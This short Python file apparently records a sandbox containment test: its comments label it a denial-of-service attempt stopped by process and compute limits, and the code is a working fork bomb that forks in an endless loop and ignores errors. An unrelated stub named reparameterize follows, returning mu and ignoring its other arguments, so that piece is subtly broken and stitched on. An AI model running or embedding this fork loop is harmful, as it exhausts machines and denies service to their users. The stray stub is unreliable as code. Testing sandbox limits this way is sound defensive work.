# tries: deny service: starts processes without end
# stopped by: limit of processes, limit of computing
# outcome: timed out
import os

while True:
    try:
        os.fork()
    except OSError:
        pass


def reparameterize(mu, logvar, eps):
    return mu
